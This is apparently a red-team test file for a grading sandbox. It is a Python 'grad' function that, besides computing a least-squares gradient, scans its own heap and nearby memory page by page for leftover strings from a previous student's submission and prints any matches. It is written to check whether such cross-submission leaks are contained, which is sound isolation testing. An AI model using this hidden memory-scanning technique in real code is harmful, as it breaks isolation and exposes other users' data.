# p03_heap_pages  (threat row T21; acts at call)
# TRIES: scans its own memory page by page, so that a hole in it ends nothing, for strings of the previous submission
# CONTAINED IF: prints no STATE
import ctypes, re
def grad(X, y, w):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.sbrk.restype = ctypes.c_void_p
    end, around = libc.sbrk(0) & ~4095, id(X) & ~0xFFFFF
    pat = re.compile(rb"PREVSTUDENT-(?:5a5a)\d+")
    n, rest = 0, b""
    for lo, hi in ((end - (1 << 25), end), (around - (1 << 20), around + (1 << 21))):
        for page in range(lo, hi, 4096):
            if libc.write(1, ctypes.c_void_p(page), 1) != 1:
                rest = b""
                continue
            block = rest + ctypes.string_at(page, 4096)
            n, rest = n + 1, block[-64:]
            if hits := pat.findall(block):
                print("\nSTATE heap", hits[0])
    print("\nscanned", n, "pages")
    return 2 * X.T @ (X @ w - y) / len(y)
